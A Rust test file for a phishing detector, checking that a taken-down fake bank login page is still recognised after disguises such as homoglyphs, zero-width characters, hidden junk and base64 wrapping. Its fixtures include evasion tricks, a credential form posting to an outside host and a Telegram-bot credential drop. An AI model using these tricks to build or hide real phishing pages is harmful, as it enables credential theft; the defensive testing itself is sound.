//! Content that was taken down comes back in other clothes: is it recognised, and is ordinary content left alone?

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test")]

use std::time::{Duration, Instant};

use base64::Engine as _;
use proptest::prelude::*;
use purser_guard::{Action, Content, File, Names, Sign, Site, TakenDown, Verdict};

const SITE: Site<'static> = Site { hosts: &["somewhere.example"], owned: &[] };

/// A bank's page for signing in, made up.
const LINES: [&str; 12] = [
    "Welcome to online banking of Northshore Savings",
    "Use the customer number from your welcome letter",
    "We never ask for your card reader code by telephone",
    "Unlock your access after three wrong attempts",
    "Your browser was checked and is up to date",
    "Lost your token? Order a new one at any branch",
    "Business customers sign in with the Northshore key file",
    "Exchange rates of today for the most traded currencies",
    "Report a suspicious letter to our fraud desk",
    "Opening hours of the branches during the holidays",
    "Northshore Savings is a member of the deposit guarantee fund",
    "Prices for keeping an account change on the first of March",
];

fn page(lines: &[&str]) -> String {
    let mut html = String::from(
        "<!doctype html><html><head><title>Northshore Savings</title></head><body class=\"main\"><header><nav><ul id=\"top\">\
         <li>Private</li><li>Business</li></ul></nav></header><main><section class=\"hero\">",
    );
    for (at, line) in lines.iter().enumerate() {
        let element = ["h1", "p", "h2", "blockquote"][at % 4];
        html.push_str(&format!("<div class=\"row row{at}\"><{element}>{line}</{element}></div>"));
    }
    html.push_str(
        "<form id=\"login\" action=\"/in\"><label>Customer number</label><input type=\"text\" name=\"customer\"><label>Secret</label>\
         <input type=\"password\" name=\"secret\"><button>Open my accounts</button></form></section></main></body></html>",
    );
    html
}

fn other(lines: &[&str]) -> String {
    let mut html = String::from("<html><body><table><tr><td><font size=2>Portal</font></td></tr>");
    for line in lines {
        html.push_str(&format!("<tr><td><span>{line}</span></td></tr>"));
    }
    html.push_str(
        "</table><form action=go.php><input name=u><input name=p type=password><input type=submit value=Next></form></body></html>",
    );
    html
}

fn guarded() -> Content {
    let original = page(&LINES);
    let prints = Content::fingerprints(&[file("/index.html", &original)]);
    assert_eq!(prints.len(), 1);
    Content::new(Names::default(), prints.into_iter().map(|print| TakenDown { name: "case 7".to_owned(), print }).collect())
}

fn file<'a>(path: &'a str, text: &'a str) -> File<'a> {
    File { path, bytes: text.as_bytes() }
}

fn judged(content: &Content, html: &str) -> Verdict {
    content.judge(&[file("/index.html", html)], SITE)
}

fn is_known(verdict: &Verdict) -> bool {
    verdict.reasons.iter().any(|reason| reason.sign == Sign::KnownContent)
}

#[test]
fn a_page_that_was_taken_down_is_refused_when_it_comes_back_unchanged() {
    let verdict = judged(&guarded(), &page(&LINES));
    assert_eq!(verdict.action, Action::Review, "{verdict:?}");
    assert_eq!(verdict.target.as_deref(), Some("case 7"));
}

#[test]
fn new_addresses_ids_and_title_do_not_help() {
    let rebuilt = page(&LINES)
        .replace("/in\"", "https://take.example/x\"")
        .replace("id=\"login\"", "id=q1")
        .replace("Northshore Savings</title>", "x</title>");
    assert!(is_known(&judged(&guarded(), &rebuilt)));
}

#[test]
fn renamed_classes_and_a_minifier_do_not_help() {
    let mut rebuilt =
        page(&LINES).replace("class=\"row ", "class=\"zq-").replace("class=\"hero\"", "class=k9").replace("id=\"top\"", "id=a");
    for optional in ["<html>", "</html>", "<head>", "</head>", "</body>", "</li>", "</p>"] {
        rebuilt = rebuilt.replace(optional, "");
    }
    assert!(is_known(&judged(&guarded(), &rebuilt)));
}

#[test]
fn letters_that_look_alike_and_hidden_junk_do_not_help() {
    let twins = |text: &str| -> String {
        let swap = |(at, letter): (usize, char)| match letter {
            'a' if at % 2 == 0 => 'а',
            'e' if at % 3 == 0 => 'е',
            'o' => 'о',
            other => other,
        };
        text.chars().enumerate().map(swap).collect()
    };
    let lines: Vec<String> = LINES.iter().map(|line| twins(line).replace(' ', "\u{200b} ")).collect();
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let junk = "<div class=j7>the quick brown fox jumps over dogs</div><div style='display:none'><p>more of that</p></div>";
    let rebuilt = page(&lines).replace("</head>", "<style>.j7 {display:none}</style></head>").replace("<main>", &format!("{junk}<main>"));
    assert!(is_known(&judged(&guarded(), &rebuilt)));
}

#[test]
fn a_page_inside_a_script_is_read_and_said_to_hide() {
    let encoded = base64::engine::general_purpose::STANDARD.encode(page(&LINES));
    let halves = encoded.split_at(encoded.len() / 2);
    for wrapped in [
        format!("<script>document.write(atob('{encoded}'))</script>"),
        format!("<script>document.write(atob('{}' + '{}'))</script>", halves.0, halves.1),
        format!("export default {{ fetch() {{ return new Response(atob(\"{encoded}\")) }} }}"),
    ] {
        let verdict = judged(&guarded(), &wrapped);
        assert!(is_known(&verdict), "{wrapped}");
        assert!(verdict.reasons.iter().any(|reason| reason.sign == Sign::Concealed));
    }
}

#[test]
fn the_same_words_in_another_template_are_recognised_and_so_is_a_part_of_them() {
    assert!(is_known(&judged(&guarded(), &other(&LINES))));
    let some = [LINES[7], LINES[2], LINES[10], LINES[4], LINES[0]];
    assert!(is_known(&judged(&guarded(), &other(&some))));
}

#[test]
fn the_same_template_with_other_words_is_somebody_elses_page() {
    let ours: Vec<String> = LINES
        .iter()
        .enumerate()
        .map(|(at, _)| format!("Kettle number {at} boils {} litres of water in the garden kitchen", at * 3))
        .collect();
    let ours: Vec<&str> = ours.iter().map(String::as_str).collect();
    let verdict = judged(&guarded(), &page(&ours).replace("Northshore Savings", "Kettles"));
    assert!(verdict.passes(), "{verdict:?}");
    let ordinary = "<h1>Welcome back</h1><p>Sign in to your account</p><form action=/login><input type=email placeholder='Enter your email address'>\
        <input type=password placeholder='Enter your password'><label><input type=checkbox>Remember me</label><a>Forgot your password?</a>\
        <button>Sign in</button></form><p>Don't have an account? Sign up</p><p>Or continue with</p><a>Continue with Google</a><footer>© 2026 \
        Kettles Inc. All rights reserved. <a>Privacy Policy</a> <a>Terms of Service</a></footer>";
    assert!(judged(&guarded(), ordinary).passes());
}

#[test]
fn a_form_that_sends_credentials_elsewhere_or_under_a_protected_name_is_held() {
    let content = Content::default();
    let signs = |html: &str, site: Site<'_>| -> Vec<Sign> {
        content.judge(&[file("/a.html", html)], site).reasons.iter().map(|reason| reason.sign).collect()
    };
    let form =
        |title: &str, action: &str| format!("<title>{title}</title><form action='{action}'><input name=u><input type=password></form>");
    assert_eq!(signs(&form("Kettles", "/in"), SITE), []);
    assert_eq!(signs(&form("Kettles", "https://api.somewhere.example/in"), SITE), []);
    assert_eq!(signs(&form("Kettles", "https://take.example/in"), SITE), [Sign::CredentialForm]);
    assert_eq!(signs(&form("Log in to your PаyPal account", "/in"), SITE), [Sign::BrandPage]);
    assert_eq!(signs(&form("PayPal", "/in"), Site { owned: &["paypal"], ..SITE }), []);
    assert_eq!(signs(&form("PayPal", "/in"), Site { hosts: &["www.paypal.com"], owned: &[] }), []);
    assert_eq!(signs("<title>PayPal news</title><form><input type=search></form>", SITE), []);
    let drop = form("Kettles", "/in") + "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>";
    assert_eq!(signs(&drop, SITE), [Sign::CredentialForm]);
    assert_eq!(signs("<p>Restore<textarea placeholder='Enter your 12 word recovery phrase'></textarea>", SITE), [Sign::WalletSecret]);
    let worker = "export default { fetch() { return new Response(`<html><title>Coinbase</title><input type=password>`) } }";
    assert_eq!(signs(worker, SITE), [Sign::BrandPage]);
}

/// In a build without optimisation these take some ten times as long as they do for customers (see `docs/abuse.md`):
/// what is tested is that nothing grows faster than its input.
#[test]
fn hostile_files_of_five_megabytes_are_read_in_linear_time() {
    let content = guarded();
    let size = 5_000_000;
    for pattern in [
        "<div>",
        "<a b c d e f g h i j ",
        "<!--",
        "<p \"",
        "&#x41;",
        "</",
        "<script>",
        "%3C",
        "\\x3c",
        "60,",
        "QUJD",
        "<form><input>",
        "а",
        "©paypal ",
    ] {
        let text = pattern.repeat(size / pattern.len());
        let start = Instant::now();
        let _ = judged(&content, &text);
        assert!(start.elapsed() < Duration::from_secs(30), "`{pattern}` took {:?}", start.elapsed());
    }
}

proptest! {
    #[test]
    fn nothing_makes_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2_000)) {
        let _ = Content::default().judge(&[File { path: "/x", bytes: &bytes }], SITE);
    }

    #[test]
    fn no_markup_makes_it_panic(text in "(<[a-z/!\"'=%\\\\x& ]{0,6}>?|[a-zé&#;%0-9,А-я\u{200b}]{0,4}|form|input|type=password| |-->){0,80}") {
        let _ = judged(&Content::default(), &text);
        let _ = Content::fingerprints(&[file("/x", &text)]);
    }

    #[test]
    fn no_name_makes_it_panic(name in "\\PC{0,80}") {
        let _ = Names::default().judge(&name, purser_guard::Context::stranger(purser_guard::Kind::Project));
    }
}
